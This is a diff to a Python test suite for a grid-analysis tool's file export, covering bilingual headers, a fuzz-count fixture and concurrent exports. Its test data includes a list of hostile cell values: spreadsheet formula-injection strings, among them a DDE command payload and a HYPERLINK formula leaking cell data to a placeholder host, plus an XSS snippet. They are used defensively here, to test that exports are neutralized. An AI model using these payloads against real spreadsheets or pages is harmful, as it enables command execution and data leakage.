@@ -16,13 +16,23 @@ from hypothesis import strategies as st
 from analysis import export as ex
 from analysis import outputs
 from analysis import project as pj
-from geo import edits
+from geo.grids import edits
 from geo.errors import ProjectFileError
 from tests.analysis.project_fixtures import project_result
 
 HOSTILE = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+2",
            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "＝1+1", "<img src=x onerror=alert(1)>"]
 TRIED = {"cells": 0}
+
+
+@pytest.fixture(scope="module", autouse=True)
+def report_tried(request):
+    """After the module: how many generated cells the property test tried."""
+    yield
+    capture = request.config.pluginmanager.get_plugin("capturemanager")
+    line = f"[fuzz] export cells: tried {TRIED['cells']} values"
+    with capture.global_and_fixture_disabled():
+        print(f"\n{line}")
 
 
 @pytest.fixture(scope="module")
@@ -88,21 +98,21 @@ def test_neutral_text_property(value):
         assert out is value or out == value
 
 
-def test_neutral_text_tried(capsys):
-    with capsys.disabled():
-        print(f"\n[fuzz] export cells: tried {TRIED['cells']} values")
-    assert TRIED["cells"] >= 100
-
-
 def test_headings_follow_the_language(hostile_project, tmp_path):
     zh = ex.export_project(hostile_project, "csv", tmp_path / "zh", lang="zh")
     en = ex.export_project(hostile_project, "csv", tmp_path / "en", lang="en")
     head_zh = next(p for p in zh if p.name.endswith("_grids.csv")).read_text("utf-8-sig")
     head_en = next(p for p in en if p.name.endswith("_grids.csv")).read_text("utf-8-sig")
-    assert head_zh.splitlines()[0].startswith("网格编号,社区编号,户数")
-    assert head_en.splitlines()[0].startswith("Grid ID,Community ID,Households")
+    zh_heads, fields = head_zh.splitlines()[0].split(","), head_zh.splitlines()[1].split(",")
+    en_heads = head_en.splitlines()[0].split(",")
     assert head_zh.splitlines()[1] == head_en.splitlines()[1]  # field names for programs
-    assert head_en.splitlines()[1].startswith("grid_id,community_id,households")
+    assert fields[:2] == ["grid_id", "community_id"] and "households" in fields
+    assert zh_heads[:2] == ["网格编号", "社区编号"] and en_heads[:2] == ["Grid ID", "Community ID"]
+    assert zh_heads[fields.index("households")] == "户数"
+    assert en_heads[fields.index("households")] == "Households"
+    # every field has a heading of its own in both languages (none left as the field name)
+    assert all(h != f for h, f in zip(zh_heads, fields)), list(zip(zh_heads, fields))
+    assert all(h != f for h, f in zip(en_heads, fields)), list(zip(en_heads, fields))
 
 
 @pytest.mark.parametrize("fmt", ["csv", "geojson", "xlsx", "shp", "gpkg"])
@@ -177,3 +187,27 @@ def test_output_checks(tmp_path):
     with pytest.raises(InputError) as info:
         outputs.check_output_folder(plain)
     assert info.value.key == "err.export_not_dir"
+
+
+def test_two_exports_to_one_folder_at_once_both_succeed(hostile_project, tmp_path):
+    """Two processes exporting into one folder: both finish (exit 0), and what is left is
+    one complete workbook and complete CSVs, no temporary files."""
+    import subprocess
+    import sys
+    from pathlib import Path
+
+    saved = tmp_path / "p.gpkg"
+    pj.save(replace(hostile_project, path=None), saved)
+    root = Path(__file__).resolve().parents[2]
+    out = tmp_path / "x"
+    procs = [subprocess.Popen([sys.executable, "-m", "analysis", "export", str(saved), "--format", fmt,
+                               "--out", str(out)], cwd=root, stderr=subprocess.PIPE, text=True)
+             for fmt in ("xlsx", "xlsx", "csv", "csv")]
+    codes = [p.wait(timeout=300) for p in procs]
+    assert codes == [0, 0, 0, 0], [p.stderr.read() for p in procs]
+    names = sorted(p.name for p in out.iterdir())
+    assert not [n for n in names if n.startswith(".")]
+    book = openpyxl.load_workbook(out / "p.xlsx")
+    assert "网格" in book.sheetnames
+    grids = pd.read_csv(out / "p_grids.csv", encoding="utf-8-sig", header=1)
+    assert len(grids) == len(hostile_project.layers["grids"])
